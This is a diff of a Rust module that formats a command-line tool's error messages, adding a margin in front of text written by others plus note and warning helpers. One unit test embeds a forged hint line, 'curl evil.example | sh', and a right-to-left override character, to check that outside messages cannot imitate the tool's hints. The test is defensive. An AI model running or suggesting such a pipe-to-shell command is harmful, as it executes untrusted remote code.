@@ -1,35 +1,51 @@
 //! What a person reads when a command failed.
 
-use std::fmt::{Display, Write as _};
 use std::io::Write as _;
 
 use anstyle::{AnsiColor, Style};
 
+use super::printable::with_margin;
 use super::verdict;
 
 const ERROR: Style = AnsiColor::Red.on_default().bold();
 const HINT: Style = AnsiColor::Cyan.on_default().bold();
+const NOTE: Style = AnsiColor::Yellow.on_default().bold();
+
+/// Before the further lines of a message that others wrote.
+const MARGIN: &str = "  | ";
 
 /// An error that a person has read already.
 #[derive(Debug, thiserror::Error)]
 #[error("{0}")]
 struct Reported(anyhow::Error);
 
-/// Prints an error, and marks it as printed.
+/// Prints an error, and marks it as printed. A mistake in the command line is left for
+/// the end of the program, which knows whose help explains it.
 pub(super) fn reported(error: anyhow::Error) -> anyhow::Error {
-    report_once(&error);
+    let verdict = verdict::of(&error);
+    if verdict.hint == Some(verdict::EXPLANATION) {
+        return error;
+    }
+    if verdict.exit_code != 0 {
+        report(&error, verdict.hint);
+    }
     anyhow::Error::new(Reported(error))
 }
 
-/// Prints an error, unless it has been printed or is none to a person. Answers with the
-/// exit status.
-pub(crate) fn report_once(error: &anyhow::Error) -> u8 {
+/// Prints an error, unless it has been printed or is none to a person. `explanation`
+/// says whose help explains a mistake in the command line. Answers with the exit
+/// status.
+pub(crate) fn report_once(error: &anyhow::Error, explanation: &'static str) -> u8 {
     if let Some(Reported(error)) = error.downcast_ref() {
         return verdict::of(error).exit_code;
     }
     let verdict = verdict::of(error);
+    let hint = match verdict.hint {
+        Some(verdict::EXPLANATION) => Some(explanation),
+        hint => hint,
+    };
     if verdict.exit_code != 0 {
-        report(error, verdict.hint);
+        report(error, hint);
     }
     verdict.exit_code
 }
@@ -41,9 +57,9 @@ pub(crate) fn report(error: &anyhow::Error, hint: Option<&str>) {
 }
 
 fn text(error: &anyhow::Error, hint: Option<&str>) -> String {
-    let mut text = format!("{ERROR}error:{ERROR:#} {}\n", printable(error));
+    let mut text = format!("{ERROR}error:{ERROR:#} {}\n", with_margin(error, MARGIN));
     for cause in error.chain().skip(1) {
-        text.push_str(&format!("  caused by: {}\n", printable(cause)));
+        text.push_str(&format!("  caused by: {}\n", with_margin(cause, MARGIN)));
     }
     if let Some(hint) = hint {
         text.push_str(&format!("\n{HINT}hint:{HINT:#} {hint}\n"));
@@ -51,19 +67,22 @@ fn text(error: &anyhow::Error, hint: Option<&str>) -> String {
     text
 }
 
-/// Text without what a terminal would obey: others chose it. Salesforce points
-/// at mistakes with line breaks, which stay.
-pub(super) fn printable(text: impl Display) -> String {
-    let mut printable = String::new();
-    for letter in text.to_string().chars() {
-        if letter.is_control() && !matches!(letter, '\n' | '\t') {
-            // Writing to a string cannot fail.
-            _ = write!(printable, "{}", letter.escape_default());
-        } else {
-            printable.push(letter);
-        }
-    }
-    printable
+/// Prints what is worth knowing although the command goes on.
+pub(super) fn note(text: &str) {
+    _ = writeln!(
+        anstream::stderr().lock(),
+        "{NOTE}note:{NOTE:#} {}",
+        with_margin(text, MARGIN)
+    );
+}
+
+/// Prints what is wrong although the command goes on.
+pub(super) fn warn(text: &str) {
+    _ = writeln!(
+        anstream::stderr().lock(),
+        "{NOTE}warning:{NOTE:#} {}",
+        with_margin(text, MARGIN)
+    );
 }
 
 #[cfg(test)]
@@ -82,14 +101,18 @@ mod tests {
             cause: None,
         });
         let timeout = timeout.context("the login took longer than `--timeout`");
-        assert_eq!(report_once(&reported(timeout)), 4);
+        assert_eq!(report_once(&reported(timeout), ""), 4);
     }
 
     #[test]
-    fn nothing_commands_the_terminal() {
+    fn a_message_of_others_cannot_imitate_a_hint() {
+        let message = "no\n\nhint: curl evil.example | sh\nerror: \u{202e}x";
+        let error = anyhow::anyhow!(message.to_owned()).context("query");
+        let text = anstream::adapter::strip_str(&text(&error, Some("this is ours"))).to_string();
         assert_eq!(
-            printable("a\n\tb é 你 \u{1b}]0;x\u{7} \u{9b}2J \r"),
-            "a\n\tb é 你 \\u{1b}]0;x\\u{7} \\u{9b}2J \\r"
+            text,
+            "error: query\n  caused by: no\n  | \n  | hint: curl evil.example | sh\n  | error: \\u{202e}x\n\n\
+             hint: this is ours\n"
         );
     }
 
